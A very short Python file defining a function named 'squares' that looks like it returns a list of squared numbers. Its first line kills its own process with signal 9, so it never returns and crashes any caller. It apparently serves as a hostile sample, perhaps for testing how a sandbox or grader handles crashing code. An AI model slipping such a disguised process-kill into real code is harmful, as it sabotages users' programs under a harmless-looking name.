import os


def squares(n):
    os.kill(os.getpid(), 9)
    return [i * i for i in range(n)]
